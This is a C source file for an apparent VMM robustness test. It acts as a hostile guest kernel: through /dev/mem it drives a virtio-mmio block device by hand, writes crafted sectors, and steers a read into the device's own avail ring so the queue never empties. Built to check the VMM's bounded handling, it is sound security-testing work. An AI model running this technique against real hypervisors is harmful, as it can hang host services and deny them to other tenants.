/*
 * hostile-virtio: a duet microVM workload that plays a guest kernel under an
 * attacker's control (issue 9). It needs the test-only guest kernel with
 * /dev/mem (images/kernel/hostile.fragment) and runs as root in the guest.
 *
 *  1. finds the virtio-mmio device of duet's scratch disk (serial
 *     duet-scratch; duet places device N at 0xd0000000 + N * 0x1000 and
 *     Linux names it virtio-mmio.N) and unbinds Linux's driver from it;
 *  2. brings the device up by hand through /dev/mem: VERSION_1 only, one
 *     16-entry queue whose rings sit in a locked page of its own (physical
 *     address from /proc/self/pagemap);
 *  3. writes 65536 "steering" sectors to the disk with plain OUT requests:
 *     sector s, read over the avail ring, sets avail.idx one past what the
 *     device has taken and points the request header (inside the same 512
 *     bytes) at sector s + 1;
 *  4. makes one such read available and writes QueueNotify forever. The
 *     queue is never empty again: a VMM that serves "until the ring is
 *     empty" never returns from the first notify; duet's VMM must return
 *     after a bounded pass, and stop the VM on its timeout.
 *
 * Output: lines starting with "hostile:" on stdout. Exit status 2 when the
 * set-up fails (the attack never ran); it never exits once the attack runs.
 *
 * Build: gcc -static -O2 -o hostile-virtio hostile-virtio.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define MMIO_BASE 0xd0000000UL
#define MMIO_SIZE 0x1000UL
#define MAX_DEVICES 19

/* virtio-mmio registers (layout version 2) */
#define R_MAGIC 0x000
#define R_VERSION 0x004
#define R_DEVICE_ID 0x008
#define R_DRIVER_FEATURES 0x020
#define R_DRIVER_FEATURES_SEL 0x024
#define R_QUEUE_SEL 0x030
#define R_QUEUE_NUM_MAX 0x034
#define R_QUEUE_NUM 0x038
#define R_QUEUE_READY 0x044
#define R_QUEUE_NOTIFY 0x050
#define R_INTERRUPT_STATUS 0x060
#define R_INTERRUPT_ACK 0x064
#define R_STATUS 0x070
#define R_QUEUE_DESC_LOW 0x080
#define R_QUEUE_DESC_HIGH 0x084
#define R_QUEUE_AVAIL_LOW 0x090
#define R_QUEUE_AVAIL_HIGH 0x094
#define R_QUEUE_USED_LOW 0x0a0
#define R_QUEUE_USED_HIGH 0x0a4

#define S_ACKNOWLEDGE 1
#define S_DRIVER 2
#define S_DRIVER_OK 4
#define S_FEATURES_OK 8

#define DESC_F_NEXT 1
#define DESC_F_WRITE 2

#define QSIZE 16
#define SECTORS 65536u
#define SECTORS_PER_WRITE 8u /* one 4 KiB page per OUT request */
#define WRITES (SECTORS / SECTORS_PER_WRITE)

/* Offsets in the ring page. */
#define P_DESC 0x000
#define P_USED 0x100
#define P_STATUS 0x1f0
#define P_AVAIL 0x200 /* the steering read lands on 0x200..0x3ff */
#define P_HEADER_IN_AVAIL 0x40
#define P_OUT_HEADER 0x400

struct desc {
    uint64_t addr;
    uint32_t len;
    uint16_t flags;
    uint16_t next;
};

static volatile uint32_t *regs;
static uint8_t *ring;     /* the ring page */
static uint8_t *data;     /* one page of OUT data */
static uint64_t ring_pa, data_pa;

static void die(const char *what)
{
    printf("hostile: setup failed: %s: %s\n", what, strerror(errno));
    fflush(stdout);
    exit(2);
}

static void wr(unsigned off, uint32_t v) { regs[off / 4] = v; }
static uint32_t rd(unsigned off) { return regs[off / 4]; }

static volatile uint16_t *avail_idx(void) { return (volatile uint16_t *)(ring + P_AVAIL + 2); }
static volatile uint16_t *used_idx(void) { return (volatile uint16_t *)(ring + P_USED + 2); }

static uint64_t phys(void *p)
{
    int fd = open("/proc/self/pagemap", O_RDONLY);
    if (fd < 0)
        die("open /proc/self/pagemap");
    uint64_t e;
    off_t at = (off_t)((uintptr_t)p / 4096) * 8;
    if (pread(fd, &e, 8, at) != 8)
        die("read /proc/self/pagemap");
    close(fd);
    if (!(e & (1ULL << 63)) || (e & ((1ULL << 55) - 1)) == 0) {
        errno = EPERM;
        die("page not present or PFN hidden in pagemap");
    }
    return (e & ((1ULL << 55) - 1)) * 4096;
}

/* The index N of virtio-mmio.N whose disk has serial `serial`, or -1. */
static int find_disk(const char *serial)
{
    for (int n = 0; n < MAX_DEVICES; n++) {
        char path[256];
        snprintf(path, sizeof path, "/sys/bus/platform/devices/virtio-mmio.%d", n);
        DIR *d = opendir(path);
        if (!d)
            continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (strncmp(e->d_name, "virtio", 6) || !strchr("0123456789", e->d_name[6]) || !e->d_name[6])
                continue;
            char bpath[600];
            snprintf(bpath, sizeof bpath, "%s/%s/block", path, e->d_name);
            DIR *b = opendir(bpath);
            if (!b)
                continue;
            struct dirent *v;
            while ((v = readdir(b))) {
                if (v->d_name[0] == '.')
                    continue;
                char spath[900], got[64] = {0};
                snprintf(spath, sizeof spath, "%s/%s/serial", bpath, v->d_name);
                int fd = open(spath, O_RDONLY);
                if (fd < 0)
                    continue;
                ssize_t k = read(fd, got, sizeof got - 1);
                close(fd);
                if (k > 0 && got[k - 1] == '\n')
                    got[k - 1] = 0;
                if (!strcmp(got, serial)) {
                    closedir(b);
                    closedir(d);
                    return n;
                }
            }
            closedir(b);
        }
        closedir(d);
    }
    return -1;
}

static void set_desc(int i, uint64_t addr, uint32_t len, uint16_t flags, uint16_t next)
{
    struct desc *t = (struct desc *)(ring + P_DESC);
    t[i].addr = addr;
    t[i].len = len;
    t[i].flags = flags;
    t[i].next = next;
}

static void header(uint8_t *at, uint32_t type, uint64_t sector)
{
    memset(at, 0, 16);
    memcpy(at, &type, 4);
    memcpy(at + 8, &sector, 8);
}

/* Makes head 0 available once more and notifies; waits for the device. */
static uint16_t submit(void)
{
    uint16_t idx = *avail_idx();
    ((volatile uint16_t *)(ring + P_AVAIL + 4))[idx % QSIZE] = 0;
    __sync_synchronize();
    *avail_idx() = (uint16_t)(idx + 1);
    __sync_synchronize();
    wr(R_QUEUE_NOTIFY, 0);
    for (long spin = 0; *used_idx() != (uint16_t)(idx + 1); spin++) {
        if (spin > 100000000L) {
            errno = ETIMEDOUT;
            die("the device did not complete an OUT request");
        }
    }
    if (rd(R_INTERRUPT_STATUS))
        wr(R_INTERRUPT_ACK, rd(R_INTERRUPT_STATUS));
    return (uint16_t)(idx + 1);
}

int main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    int n = find_disk("duet-scratch");
    if (n < 0) {
        errno = ENODEV;
        die("no virtio disk with serial duet-scratch");
    }
    uint64_t base = MMIO_BASE + (uint64_t)n * MMIO_SIZE;
    printf("hostile: duet-scratch is virtio-mmio.%d at %#lx\n", n, (unsigned long)base);

    /* Everything the attack needs, before the disk (and the root's upper layer) goes away. */
    int mem = open("/dev/mem", O_RDWR | O_SYNC);
    if (mem < 0)
        die("open /dev/mem");
    if (posix_memalign((void **)&ring, 4096, 4096) || posix_memalign((void **)&data, 4096, 4096))
        die("posix_memalign");
    memset(ring, 0, 4096);
    memset(data, 0, 4096);
    if (mlockall(MCL_CURRENT | MCL_FUTURE))
        die("mlockall");
    ring_pa = phys(ring);
    data_pa = phys(data);
    int unbind = open("/sys/bus/platform/drivers/virtio-mmio/unbind", O_WRONLY);
    if (unbind < 0)
        die("open .../virtio-mmio/unbind");
    char name[32];
    int len = snprintf(name, sizeof name, "virtio-mmio.%d", n);
    if (write(unbind, name, len) != len)
        die("unbind");
    close(unbind);
    printf("hostile: unbound %s; rings at %#lx\n", name, (unsigned long)ring_pa);

    regs = mmap(NULL, MMIO_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, mem, (off_t)base);
    if (regs == MAP_FAILED)
        die("mmap /dev/mem");
    if (rd(R_MAGIC) != 0x74726976 || rd(R_VERSION) != 2 || rd(R_DEVICE_ID) != 2) {
        errno = ENODEV;
        die("not a virtio-mmio v2 block device");
    }

    /* Bring-up, as Linux's virtio_mmio does it, with VERSION_1 only. */
    wr(R_STATUS, 0);
    wr(R_STATUS, S_ACKNOWLEDGE);
    wr(R_STATUS, S_ACKNOWLEDGE | S_DRIVER);
    wr(R_DRIVER_FEATURES_SEL, 1);
    wr(R_DRIVER_FEATURES, 1);
    wr(R_DRIVER_FEATURES_SEL, 0);
    wr(R_DRIVER_FEATURES, 0);
    wr(R_STATUS, S_ACKNOWLEDGE | S_DRIVER | S_FEATURES_OK);
    if (!(rd(R_STATUS) & S_FEATURES_OK)) {
        errno = EPROTO;
        die("FEATURES_OK refused");
    }
    wr(R_QUEUE_SEL, 0);
    if (rd(R_QUEUE_NUM_MAX) < QSIZE) {
        errno = EPROTO;
        die("queue too small");
    }
    wr(R_QUEUE_NUM, QSIZE);
    uint64_t rings[3] = {ring_pa + P_DESC, ring_pa + P_AVAIL, ring_pa + P_USED};
    unsigned lows[3] = {R_QUEUE_DESC_LOW, R_QUEUE_AVAIL_LOW, R_QUEUE_USED_LOW};
    for (int i = 0; i < 3; i++) {
        wr(lows[i], (uint32_t)rings[i]);
        wr(lows[i] + 4, (uint32_t)(rings[i] >> 32));
    }
    wr(R_QUEUE_READY, 1);
    wr(R_STATUS, S_ACKNOWLEDGE | S_DRIVER | S_FEATURES_OK | S_DRIVER_OK);
    if (!rd(R_QUEUE_READY) || !(rd(R_STATUS) & S_DRIVER_OK)) {
        errno = EPROTO;
        die("queue not accepted");
    }

    /* Step 3: the steering sectors. The device's next_avail after the
     * writes is WRITES; read j (sector j) must leave idx = WRITES + j + 2. */
    set_desc(0, ring_pa + P_OUT_HEADER, 16, DESC_F_NEXT, 1);
    set_desc(1, data_pa, 4096, DESC_F_NEXT, 2);
    set_desc(2, ring_pa + P_STATUS, 1, DESC_F_WRITE, 0);
    for (uint32_t w = 0; w < WRITES; w++) {
        memset(data, 0, 4096);
        for (uint32_t k = 0; k < SECTORS_PER_WRITE; k++) {
            uint32_t s = w * SECTORS_PER_WRITE + k;
            uint8_t *sec = data + 512 * k;
            uint16_t idx = (uint16_t)(WRITES + s + 2);
            memcpy(sec + 2, &idx, 2);
            header(sec + P_HEADER_IN_AVAIL, 0 /* IN */, (s + 1) % SECTORS);
        }
        header(ring + P_OUT_HEADER, 1 /* OUT */, (uint64_t)w * SECTORS_PER_WRITE);
        ring[P_STATUS] = 0xff;
        submit();
        if (ring[P_STATUS] != 0) {
            errno = EIO;
            die("an OUT request failed");
        }
    }
    printf("hostile: wrote %u steering sectors; used idx %u\n", SECTORS, *used_idx());

    /* Step 4: one read over the avail ring, then notify forever. */
    set_desc(0, ring_pa + P_AVAIL + P_HEADER_IN_AVAIL, 16, DESC_F_NEXT, 1);
    set_desc(1, ring_pa + P_AVAIL, 512, DESC_F_WRITE | DESC_F_NEXT, 2);
    set_desc(2, ring_pa + P_STATUS, 1, DESC_F_WRITE, 0);
    memset(ring + P_AVAIL + 4, 0, 2 * QSIZE);
    header(ring + P_AVAIL + P_HEADER_IN_AVAIL, 0, 0);
    __sync_synchronize();
    *avail_idx() = (uint16_t)(WRITES + 1);
    __sync_synchronize();
    printf("hostile: steering the device into its own avail ring\n");
    for (unsigned long k = 1;; k++) {
        wr(R_QUEUE_NOTIFY, 0);
        if ((k & (k - 1)) == 0)
            printf("hostile: notify %lu returned; used idx %u\n", k, *used_idx());
    }
}
